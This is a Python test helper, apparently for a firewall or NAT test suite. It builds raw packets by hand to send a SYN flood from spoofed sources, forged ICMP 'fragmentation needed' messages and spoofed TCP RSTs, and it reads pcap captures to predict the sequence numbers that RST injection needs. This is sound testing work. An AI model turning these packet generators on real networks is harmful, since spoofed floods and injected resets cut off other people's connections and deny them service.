#!/usr/bin/env python3
"""Raw-socket attackers and small peers for test_attack.sh (plain python3,
no scapy). Every packet is built here, IP and TCP/ICMP checksums included,
and sent with an IPPROTO_RAW socket (IP_HDRINCL): the kernel only routes it.

  attack_tool.py synflood DST PORT COUNT BURST GODIR
        COUNT spoofed SYNs to DST:PORT from random sources in 203.0.113.0/24
        (never .10, the test's server) and 198.18.0.0/15, random ports, in
        bursts of BURST; after each burst prints "burst N SENT" and waits
        (up to 5 s) for the file GODIR/goN, so the test can look at the
        table between bursts. Prints "done SENT" at the end.
  attack_tool.py fragneeded SRC DST MTU ISRC ISPORT IDST IDPORT
        one ICMP "fragmentation needed" (type 3 code 4, next-hop MTU MTU)
        from SRC to DST quoting a 1500-byte TCP segment ISRC:ISPORT ->
        IDST:IDPORT (its IP header and whole TCP header)
  attack_tool.py rst SRC SPORT DST DPORT SEQ
        one TCP RST (no ACK) with sequence number SEQ
  attack_tool.py nextseq PCAP SRC SPORT DST DPORT
        from a capture: the next sequence number SRC:SPORT will send to
        DST:DPORT (the highest seq + length (+1 for SYN/FIN) seen)
  attack_tool.py icmpdump PCAP
        every ICMP error of a capture, one line each:
        "outer_src outer_dst type code | inner_src:sport inner_dst:dport | lan=N"
        where N is how often 192.168.0. occurs anywhere in the packet
  attack_tool.py echo ADDR PORT
        TCP line echo server; logs "peer_ip peer_port first-line" per connection
  attack_tool.py idle SPORT DST PORT NAME GODIR
        an idle TCP client from local port SPORT: one round trip (NAME + "0")
        at once ("round 0 ok"), then for N = 1, 2, ... waits for the file
        GODIR/NAME.N and does round N ("round N ok" or "round N fail: ...")
"""
import os
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_header(src, dst, proto, payload_len, ident=None, ttl=64, df=True):
    ident = random.getrandbits(16) if ident is None else ident
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0x4000 if df else 0,
                    ttl, proto, 0, src, dst)
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def tcp_segment(src, dst, sport, dport, seq, ack, flags, window=64240, payload=b""):
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, window, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(h) + len(payload))
    c = csum(pseudo + h + payload)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def aton(a):
    return socket.inet_aton(a)


def random_source():
    if random.random() < 0.5:
        while True:
            last = random.randint(1, 254)
            if last != 10:
                return bytes([203, 0, 113, last])
    return bytes([198, 18 + random.getrandbits(1), random.getrandbits(8), random.randint(1, 254)])


def synflood(dst, port, count, burst, godir):
    s = raw_socket()
    d = aton(dst)
    sent = n = 0
    while sent < count:
        n += 1
        for _ in range(min(burst, count - sent)):
            src = random_source()
            tcp = tcp_segment(src, d, random.randint(1024, 65535), port,
                              random.getrandbits(32), 0, 0x02)
            pkt = ip_header(src, d, socket.IPPROTO_TCP, len(tcp)) + tcp
            try:
                s.sendto(pkt, (dst, 0))
                sent += 1
            except OSError:		# ENOBUFS under load: try the next one
                time.sleep(0.001)
        print("burst %d %d" % (n, sent), flush=True)
        go = os.path.join(godir, "go%d" % n)
        end = time.monotonic() + 5
        while not os.path.exists(go) and time.monotonic() < end:
            time.sleep(0.02)
    print("done %d" % sent, flush=True)
    return 0


def fragneeded(src, dst, mtu, isrc, isport, idst, idport):
    inner_tcp = tcp_segment(aton(isrc), aton(idst), isport, idport, 0x11223344, 0x55667788, 0x18)
    # the quoted datagram was 1500 bytes long; only its headers are quoted
    inner = ip_header(aton(isrc), aton(idst), socket.IPPROTO_TCP, 1480, ttl=63) + inner_tcp
    icmp = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + inner
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    pkt = ip_header(aton(src), aton(dst), socket.IPPROTO_ICMP, len(icmp), df=False) + icmp
    raw_socket().sendto(pkt, (dst, 0))
    print("sent fragmentation needed %s -> %s about %s:%d -> %s:%d" % (src, dst, isrc, isport, idst, idport))
    return 0


def rst(src, sport, dst, dport, seq):
    tcp = tcp_segment(aton(src), aton(dst), sport, dport, seq & 0xFFFFFFFF, 0, 0x04, window=0)
    raw_socket().sendto(ip_header(aton(src), aton(dst), socket.IPPROTO_TCP, len(tcp)) + tcp, (dst, 0))
    print("sent RST %s:%d -> %s:%d seq %d" % (src, sport, dst, dport, seq & 0xFFFFFFFF))
    return 0


def pcap_packets(path):
    """IPv4 packets (bytes from the IP header on) of a pcap file (Ethernet
    or Linux cooked capture)."""
    data = open(path, "rb").read()
    magic = struct.unpack_from("<I", data, 0)[0]
    end = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    linktype = struct.unpack_from(end + "I", data, 20)[0]
    off = 24
    while off + 16 <= len(data):
        caplen = struct.unpack_from(end + "I", data, off + 8)[0]
        frame = data[off + 16:off + 16 + caplen]
        off += 16 + caplen
        if linktype == 1 and len(frame) >= 14 and frame[12:14] == b"\x08\x00":
            yield frame[14:]
        elif linktype == 113 and len(frame) >= 16 and frame[14:16] == b"\x08\x00":
            yield frame[16:]


def nextseq(path, src, sport, dst, dport):
    best = None
    for ip in pcap_packets(path):
        ihl = (ip[0] & 15) * 4
        if ip[9] != 6 or ip[12:16] != aton(src) or ip[16:20] != aton(dst) or len(ip) < ihl + 20:
            continue
        sp, dp, seq = struct.unpack_from("!HHI", ip, ihl)
        if sp != sport or dp != dport:
            continue
        flags = ip[ihl + 13]
        tot = struct.unpack_from("!H", ip, 2)[0]
        plen = tot - ihl - (ip[ihl + 12] >> 4) * 4
        nxt = (seq + plen + (1 if flags & 0x03 else 0)) & 0xFFFFFFFF
        if best is None or ((nxt - best) & 0xFFFFFFFF) < 0x80000000:
            best = nxt
    if best is None:
        print("no segment %s:%d -> %s:%d in %s" % (src, sport, dst, dport, path), file=sys.stderr)
        return 1
    print(best)
    return 0


def icmpdump(path):
    for ip in pcap_packets(path):
        ihl = (ip[0] & 15) * 4
        if ip[9] != 1 or len(ip) < ihl + 8 or ip[ihl] not in (3, 4, 5, 11, 12):
            continue
        inner = ip[ihl + 8:]
        line = "%s %s %d %d |" % (socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]),
                                  ip[ihl], ip[ihl + 1])
        if len(inner) >= 20:
            iihl = (inner[0] & 15) * 4
            ports = struct.unpack_from("!HH", inner, iihl) if len(inner) >= iihl + 4 else (0, 0)
            line += " %s:%d %s:%d |" % (socket.inet_ntoa(inner[12:16]), ports[0],
                                        socket.inet_ntoa(inner[16:20]), ports[1])
        print("%s lan=%d" % (line, ip.count(b"\xc0\xa8\x00")))
    return 0


def echo(addr, port):
    import threading
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, port))
    srv.listen(16)
    print("listening %s:%d" % (addr, port), flush=True)

    def serve(c, peer):
        f = c.makefile("rb")
        first = True
        try:
            for line in f:
                if first:
                    print(peer[0], peer[1], line.decode(errors="replace").strip(), flush=True)
                    first = False
                c.sendall(line)
        except OSError:
            pass
        c.close()

    while True:
        c, peer = srv.accept()
        threading.Thread(target=serve, args=(c, peer), daemon=True).start()


def idle(sport, dst, port, name, godir):
    c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    c.bind(("0.0.0.0", sport))
    c.settimeout(5)
    c.connect((dst, port))
    f = c.makefile("rb")
    n = 0
    while True:
        msg = ("%s%d\n" % (name, n)).encode()
        try:
            c.sendall(msg)
            back = f.readline()
            print("round %d %s" % (n, "ok" if back == msg else "fail: got %r" % back), flush=True)
        except OSError as e:
            print("round %d fail: %s" % (n, e), flush=True)
        n += 1
        go = os.path.join(godir, "%s.%d" % (name, n))
        while not os.path.exists(go):
            time.sleep(0.05)


def main():
    a = sys.argv[1:]
    cmd = a[0] if a else ""
    if cmd == "synflood":
        return synflood(a[1], int(a[2]), int(a[3]), int(a[4]), a[5])
    if cmd == "fragneeded":
        return fragneeded(a[1], a[2], int(a[3]), a[4], int(a[5]), a[6], int(a[7]))
    if cmd == "rst":
        return rst(a[1], int(a[2]), a[3], int(a[4]), int(a[5]))
    if cmd == "nextseq":
        return nextseq(a[1], a[2], int(a[3]), a[4], int(a[5]))
    if cmd == "icmpdump":
        return icmpdump(a[1])
    if cmd == "echo":
        return echo(a[1], int(a[2]))
    if cmd == "idle":
        return idle(int(a[1]), a[2], int(a[3]), a[4], a[5])
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
